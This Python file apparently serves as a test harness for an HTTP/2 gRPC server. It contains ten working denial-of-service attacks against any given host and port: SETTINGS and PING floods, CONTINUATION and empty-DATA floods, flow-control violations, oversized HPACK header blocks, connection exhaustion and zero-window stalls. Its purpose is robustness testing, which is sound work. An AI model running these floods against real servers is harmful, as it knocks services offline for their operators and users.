"""One abusive HTTP/2 client, run as its own process so that it does not share the test's
interpreter: `python tests/h2_attacks.py ATTACK HOST:PORT SECONDS`. Each attack repeats for
SECONDS, reconnecting whenever the server closes it (what a determined attacker does)."""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">L", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">L", stream_id) + payload


def request(encoder: hpack.Encoder, path: str = "/tensorflow.serving.PredictionService/Predict", extra=()) -> bytes:  # noqa: ANN001
    return encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"),
                           ("content-type", "application/grpc"), ("te", "trailers"), *extra])


def connect(target: tuple[str, int], settings: bytes = b"") -> socket.socket:
    sock = socket.create_connection(target, timeout=5)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # reads nothing: keep the kernel's buffer small
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock


def drain(sock: socket.socket) -> None:
    """Read and discard in the background (for attacks that do read their answers)."""
    def run() -> None:
        try:
            while sock.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=run, daemon=True).start()


def flood(target, chunk: bytes, until: float, settings: bytes = b"", first: bytes = b"") -> None:  # noqa: ANN001
    """Send `chunk` again and again without reading, reconnecting when the server closes."""
    while time.monotonic() < until:
        try:
            sock = connect(target, settings)
            sock.sendall(first)
            while time.monotonic() < until:
                sock.sendall(chunk)
        except OSError:
            time.sleep(0.01)


def settings_flood(target, until) -> None:  # noqa: ANN001
    flood(target, frame(SETTINGS, 0, 0) * 1000, until)


def ping_flood(target, until) -> None:  # noqa: ANN001
    flood(target, frame(PING, 0, 0, b"12345678") * 1000, until)


def flow_control(target, until) -> None:  # noqa: ANN001
    """64 streams of 4 MiB each, sent whatever the windows say."""
    encoder = hpack.Encoder()
    while time.monotonic() < until:
        try:
            sock = connect(target)
            for stream_id in range(1, 129, 2):
                sock.sendall(frame(HEADERS, END_HEADERS, stream_id, request(encoder)))
                sock.sendall(frame(DATA, 0, stream_id, struct.pack(">BL", 0, 4 << 20))
                             + frame(DATA, 0, stream_id, b"x" * 16384) * 256)
        except OSError:
            time.sleep(0.01)


def tiny_data(target, until) -> None:  # noqa: ANN001
    """2-byte DATA frames on 32 streams."""
    encoder = hpack.Encoder()
    while time.monotonic() < until:
        try:
            sock = connect(target)
            for stream_id in range(1, 65, 2):
                sock.sendall(frame(HEADERS, END_HEADERS, stream_id, request(encoder)))
            frames = b"".join(frame(DATA, 0, stream_id, b"ab") for stream_id in range(1, 65, 2)) * 200
            while time.monotonic() < until:
                sock.sendall(frames)
        except OSError:
            time.sleep(0.01)


def empty_data(target, until) -> None:  # noqa: ANN001
    flood(target, frame(DATA, 0, 1) * 1000, until, first=frame(HEADERS, END_HEADERS, 1, request(hpack.Encoder())))


def continuation(target, until) -> None:  # noqa: ANN001
    flood(target, frame(CONTINUATION, 0, 1) * 1000, until, first=frame(HEADERS, 0, 1, request(hpack.Encoder())))


def big_headers(target, until) -> None:  # noqa: ANN001
    """44.7 KB Huffman-coded header blocks (HEADERS + CONTINUATION), 100 a second."""
    while time.monotonic() < until:
        try:
            sock = connect(target)
            drain(sock)
            stream_id = 1
            while time.monotonic() < until:
                block = request(hpack.Encoder(), extra=[(f"x-{i}", "v" * 400) for i in range(140)])
                head, rest = block[:16000], block[16000:]
                parts = [frame(HEADERS, 0, stream_id, head)]
                while rest:
                    piece, rest = rest[:16000], rest[16000:]
                    parts.append(frame(CONTINUATION, 0 if rest else END_HEADERS, stream_id, piece))
                sock.sendall(b"".join(parts))
                stream_id += 2
                time.sleep(0.01)
        except OSError:
            time.sleep(0.01)


def unknown_method(target, until) -> None:  # noqa: ANN001
    """Tiny requests for a long unknown method: after the first, each header block is a few indexes."""
    path = "/no.Such/" + "M" * 3_900  # the most the 4 KiB header table holds
    while time.monotonic() < until:
        try:
            sock = connect(target)
            drain(sock)
            encoder = hpack.Encoder()  # a new connection, a new header table
            sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, path)))
            block = request(encoder, path)  # all indexes now: a few bytes
            stream_id = 3
            while time.monotonic() < until and stream_id < 2**31 - 2000:
                sock.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream_id + 2 * i, block)
                                      for i in range(500)))
                stream_id += 1000
        except OSError:
            time.sleep(0.01)


def preface_only(target, until) -> None:  # noqa: ANN001
    """1,100 connections that send the preface, then nothing; reopened when closed."""
    held: list[socket.socket] = []
    while time.monotonic() < until:
        held = [s for s in held if s.fileno() >= 0]
        try:
            while len(held) < 1100 and time.monotonic() < until:
                held.append(connect(target))
        except OSError:
            pass
        for sock in held:
            sock.setblocking(False)
            try:
                if sock.recv(1 << 16) == b"":
                    sock.close()
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
        time.sleep(0.05)


def zero_window(target, until) -> None:  # noqa: ANN001
    """20 connections with a zero window, 256 calls each whose answers cannot go out, plus 300
    connections each with a header block never finished."""
    encoder = hpack.Encoder()
    health = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", "/grpc.health.v1.Health/Check"),
                             (":authority", "a"), ("content-type", "application/grpc"), ("te", "trailers")])
    held = []
    while time.monotonic() < until:
        try:
            for _ in range(20):
                sock = connect(target, struct.pack(">HL", 0x4, 0))
                sock.sendall(b"".join(frame(HEADERS, END_HEADERS, i, health) + frame(DATA, END_STREAM, i, bytes(5))
                                      for i in range(1, 513, 2)))
                held.append(sock)
            for _ in range(300):
                sock = connect(target)
                sock.sendall(frame(HEADERS, 0, 1, request(hpack.Encoder())[:10]))
                held.append(sock)
        except OSError:
            pass
        end = min(until, time.monotonic() + 5)
        while time.monotonic() < end:
            time.sleep(0.1)
        for sock in held:
            sock.close()
        held.clear()


ATTACKS = {f.__name__: f for f in (settings_flood, ping_flood, flow_control, tiny_data, empty_data, continuation,
                                   big_headers, unknown_method, preface_only, zero_window)}

if __name__ == "__main__":
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    host, port = address.rsplit(":", 1)
    ATTACKS[name]((host, int(port)), time.monotonic() + seconds)
